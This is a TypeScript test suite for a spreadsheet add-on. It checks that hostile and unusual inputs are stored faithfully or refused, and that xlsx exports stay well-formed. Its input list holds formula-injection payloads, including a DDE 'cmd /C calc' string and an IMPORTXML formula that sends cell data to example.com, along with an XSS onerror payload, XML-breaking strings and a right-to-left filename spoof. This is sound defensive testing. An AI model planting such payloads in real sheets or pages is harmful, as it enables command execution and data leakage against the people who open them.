import { inflateRawSync } from 'node:zlib';
import { readXlsx } from 'hucre/xlsx';
import * as z from 'zod/mini';
import { exportXlsx } from '../../host/xlsx';
import type { FieldValue } from '../../src/model/answer';
import { keepable } from '../../src/model/characters';
import type { Field } from '../../src/model/field';
import { keptName } from '../../src/model/key';
import { roleOf, type Tab } from '../../src/model/tab';
import { sections } from '../../src/sections';
import { type Desk, plannedDesk } from '../engine/addon';
import { asked, listing, wrote } from '../engine/answer';
import { tabIn } from '../engine/book';

/** What stands unseen before a formula's sign, and what may be taken for the sign. */
const hidden = [
  '',
  ' ',
  '\t',
  '\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u2060',
  '\u202e',
  '\u3000',
  '\u0000',
  '\r',
  '\u0085',
];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'];

/** Texts that a sheet, a page or a file would make something else of, or break at. */
const texts: readonly string[] = [
  ...hidden.flatMap((before) => signs.map((sign) => `${before}${sign}1+1`)),
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  '\t=HYPERLINK("http://example.com","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=1+1",
  "''=1+1",
  "'\t=1+1",
  "'",
  "''",
  "it's",
  '\u0000',
  'a\u0007b',
  '\u000b',
  '\u009f',
  '\ufffe',
  '\uffff',
  '\ud800',
  'x\udc00y',
  '\ufffd',
  '_x0041_ and _x0000_',
  '</t></is></c><c t="str"><f>1+1</f>',
  ']]>',
  '&amp;&#0;',
  '<img src=x onerror="parent.hacked=1">',
  '__proto__',
  'constructor',
  '{means.asOf}',
  '#id',
  '#REF!',
  '1e308',
  'NaN',
  '😀 👨‍👩‍👧',
  'e\u0301 é',
  '\u202egnp.exe',
  'two\nlines',
  'x'.repeat(20_000),
];

/** Values of other kinds, and of sizes that nobody types. */
const others: readonly FieldValue[] = [
  1e308,
  -1e308,
  1e16,
  5e-324,
  -0,
  0.1 + 0.2,
  true,
  false,
  [],
  [1],
  [null, 'x'],
  '',
];

const tabs = sections.flatMap((section) => section.tabs);
const listOf = new Map(sections.flatMap(({ lists = [] }) => lists).map((list) => [list.id, list.choices[0]?.id ?? '']));

const rowOf = (tab: Tab): string | undefined => (tab.shape === 'fixed' ? tab.rows?.[0] : undefined);

/** A value that a field takes, another for each number. */
function usual({ kind, list = '', open, min = 0, max = 1e9 }: Field, number: number, letter = 'T'): string | number {
  if (kind === 'choice' && !open) return listOf.get(list) ?? '';
  if (['text', 'longText', 'person', 'choice'].includes(kind)) return `${letter}${number}`;
  if (kind === 'date') return '2027-03-16';
  if (kind === 'month') return '2027-03';
  return Math.min(max, Math.max(min, 1) + number);
}

/** What is to be read back of what was sent. */
function meant(field: Field, value: FieldValue): FieldValue {
  if (typeof value !== 'string') return Object.is(value, -0) ? 0 : value;
  return keptName(field, value) || null;
}

const refusal = z.object({
  status: z.literal('invalid'),
  message: z.string(),
  faults: z.array(z.object({ record: z.string(), field: z.string(), message: z.string() })),
});

/** Refused fields, each with its record: in words, and of what was sent no more than a word is said back. */
function refusedIn(answer: unknown): readonly { readonly record: string; readonly field: string }[] {
  const { faults } = refusal.parse(answer);
  expect(faults.length).toBeGreaterThan(0);
  return faults.map(({ record, field, message }) => {
    expect(message.length).toBeGreaterThan(3);
    expect(message.length).toBeLessThan(200);
    return { record, field: field.split('.')[0] ?? '' };
  });
}

/** A part, and of its typed fields one of each kind. */
interface Subject {
  readonly tab: Tab;
  readonly fields: readonly Field[];
}

const subjects = tabs.flatMap((tab): readonly Subject[] => {
  if (tab.onDemand || tab.rowsFor) return [];
  const typed = tab.fields.filter((field) => !field.hidden && ['input', 'default'].includes(roleOf(field, rowOf(tab))));
  const kinds = new Map(
    typed.map((field) => [[field.kind, field.key, field.ref, field.open, field.cells].join(), field]),
  );
  return kinds.size === 0 ? [] : [{ tab, fields: [...kinds.values()] }];
});

type Values = Readonly<Record<string, FieldValue>>;

/** As one text, so that a value of any kind can be compared and told. */
const told = (value: unknown): string => JSON.stringify(value) ?? '';

/** What of some values is not what is read back. */
const changedIn = (
  fields: readonly Field[],
  sent: Values,
  read: Readonly<Record<string, unknown>>,
): readonly string[] =>
  fields.flatMap((field) => {
    const value = sent[field.id];
    if (field.cells !== undefined || value === undefined || (field.role === 'default' && value === '')) return [];
    const [wanted, is] = [told(meant(field, value)), told(read[field.id] ?? null)];
    return wanted === is ? [] : [`${field.id}: ${told(value).slice(0, 60)} is ${is.slice(0, 60)}`];
  });

/** Adds a record for each value, with the value in every field that takes it. */
function throughTable({ addon, workbook }: Desk, { tab, fields }: Subject): readonly string[] {
  const part = tab.id;
  // There are so many years, and no more.
  const isByYear = tab.fields.some(({ key, kind }) => key && kind === 'year');
  const values = [...texts, ...others].filter((_, index) => !isByYear || index % 2 === 0);
  const records = values.map((value, number): Record<string, FieldValue> => {
    const needed = tab.fields.filter(({ required }) => required).map((field) => [field.id, usual(field, number)]);
    return { ...Object.fromEntries(needed), ...Object.fromEntries(fields.map(({ id }) => [id, value])) };
  });
  for (let round = 1; round <= 5; round += 1) {
    const answer = asked(addon, 'addRecords', { request: `${part} ${round}`, part, records });
    if (answer.status === 'done') {
      const { records: ids } = z.object({ records: z.array(z.string()) }).parse(answer);
      const read = new Map(listing(addon, part).map(({ id, values }) => [id, values]));
      const { formulas, rows, columns } = tabIn(workbook, part);
      return ids.flatMap((id, index) => {
        const inputs = fields.filter(({ role }) => role === 'input');
        const at = (key: string): string => formulas[rows.get(id) ?? -1]?.[columns.get(key) ?? -1] ?? '';
        const run = inputs.filter((field) => at(field.id) !== '').map((field) => `${field.id}: ${at(field.id)} runs`);
        return [...run, ...changedIn(fields, records[index] ?? {}, read.get(id) ?? {})];
      });
    }
    for (const { record, field: id } of refusedIn(answer)) {
      const place = Number.parseInt(record.split('-')[1] ?? '', 36) - 1;
      const [own, field] = [records[place], fields.find((candidate) => candidate.id === id)];
      if (!own || !field) throw new Error(`${part} ${id} of record ${place} is refused, and was not meant to be`);
      if (field.required) own[id] = usual(field, place, 'R');
      else delete own[id];
    }
  }
  throw new Error(`${part} is refused again and again`);
}

/** Saves each value in every field that takes it, one after the other. */
function throughRecord({ addon }: Desk, { tab, fields }: Subject): readonly string[] {
  const [part, record] = [tab.id, rowOf(tab) ?? tab.id];
  const held: Record<string, FieldValue> = {};
  const read = () => listing(addon, part).find(({ id }) => id === record)?.values ?? {};
  for (const { id, role } of fields) {
    const value = z.union([z.string(), z.number(), z.boolean(), z.null()]).safeParse(read()[id] ?? null);
    held[id] = role === 'input' && value.success ? value.data : null;
  }
  const single = fields.filter(({ cells }) => cells === undefined);
  return [...texts.filter((_, index) => index % 9 === 0 || index > 115), ...others].flatMap((value, number) => {
    const save = (taking: readonly Field[], name: string) => {
      const changes = taking.map(({ id }) => ({ record, field: id, from: held[id] ?? null, to: value }));
      return asked(addon, 'saveRecord', { request: `${part} ${number} ${name}`, part, changes });
    };
    const first = save(single, 'all');
    const out = new Set(first.status === 'done' ? [] : refusedIn(first).map(({ field }) => field));
    const taking = single.filter(({ id }) => !out.has(id));
    if (first.status !== 'done' && taking.length > 0) expect(save(taking, 'some')).toMatchObject({ status: 'done' });
    for (const field of taking) held[field.id] = meant(field, value);
    return changedIn(taking, Object.fromEntries(taking.map(({ id }) => [id, value])), read());
  });
}

describe('every value through every kind of field of every part: stored as it is, or refused by its field in words', () => {
  const desk = plannedDesk();
  test.each(subjects.map((subject) => [subject.tab.id, subject] as const))(
    '%s',
    (_, subject) => {
      const through = subject.tab.shape === 'table' ? throughTable : throughRecord;
      expect(through(desk, subject)).toEqual([]);
    },
    60_000,
  );
});

test('through an import, too', () => {
  const { addon } = plannedDesk({ sections: ['stores'] });
  const records = [...texts, ...others].map((value, number): Record<string, FieldValue> => {
    return { storeId: `S${number}`, name: value, ownership: 'franchised', lastYearSales: value };
  });
  for (let round = 1; ; round += 1) {
    const answer = asked(addon, 'importRecords', { request: `import ${round}`, part: 'stores', records });
    if (answer.status === 'done') break;
    for (const { record, field } of refusedIn(answer)) delete records[Number(record.slice(1))]?.[field];
    expect(round).toBeLessThan(4);
  }
  const read = new Map(listing(addon, 'stores').map(({ values }) => [values.storeId, values]));
  const fields = tabs.find(({ id }) => id === 'stores')?.fields.filter(({ id }) => /^(?:name|lastYearSales)$/.test(id));
  const changed = records.flatMap((sent) => changedIn(fields ?? [], sent, read.get(sent.storeId) ?? {}));
  expect(changed).toEqual([]);
}, 60_000);

/** The files of an .xlsx, as text. */
function filesIn(zip: Uint8Array): ReadonlyMap<string, string> {
  const bytes = Buffer.from(zip);
  const files = new Map<string, string>();
  let at = bytes.indexOf('PK\u0001\u0002', 0, 'latin1');
  while (at >= 0) {
    const [method, size, nameLength] = [
      bytes.readUInt16LE(at + 10),
      bytes.readUInt32LE(at + 20),
      bytes.readUInt16LE(at + 28),
    ];
    const local = bytes.readUInt32LE(at + 42);
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const packed = bytes.subarray(start, start + size);
    files.set(
      bytes.toString('utf8', at + 46, at + 46 + nameLength),
      (method === 0 ? packed : inflateRawSync(packed)).toString('utf8'),
    );
    at = bytes.indexOf('PK\u0001\u0002', at + 46, 'latin1');
  }
  return files;
}

test('what a person types in the grid makes no file ill-formed, and what a file holds is what was typed', async () => {
  const { addon, workbook } = plannedDesk({ sections: ['stores'] });
  const unfit = ['\u0000x', 'a\ufffeb', '\ud800', '=CHAR(1)&"x"', '_x0041_'];
  const { name } = tabIn(workbook, 'stores');
  addon.use(({ SpreadsheetApp }) => {
    const sheet = SpreadsheetApp.getActive().getSheetByName(name);
    for (const [index, text] of unfit.entries()) sheet?.getRange(4 + index, 3).setValue(text);
    sheet?.getRange(4, 3).setNote('\u0001 note \udfff');
  });
  const records = texts
    .filter((text) => text === keepable(text))
    .map((text, index) => ({ storeId: `S${index}`, ownership: 'franchised', name: text }));
  wrote(addon, 'addRecords', { request: 'all', part: 'stores', records });
  const file = await exportXlsx(workbook);
  for (const [path, text] of filesIn(file)) {
    // Characters that XML 1.0 forbids; UTF-8 would write half a pair as U+FFFD, of which two are our own.
    const [wrong] = /.{0,30}(?:(?![\t\n\r\x7f-\x9f])\p{Cc}|[\ufffe\uffff]).{0,30}/u.exec(text) ?? [];
    expect({ path, wrong }).toEqual({ path, wrong: undefined });
    expect(text.split('\ufffd').length).toBeLessThanOrEqual(3);
  }
  const sheet = (await readXlsx(file)).sheets.find((candidate) => candidate.name === name);
  const held = new Set(sheet?.rows.flat().map((cell) => (typeof cell === 'string' ? cell : '')));
  const lost = records.map((record) => record.name).filter((text) => !held.has(text));
  expect(lost).toEqual([]);
}, 60_000);
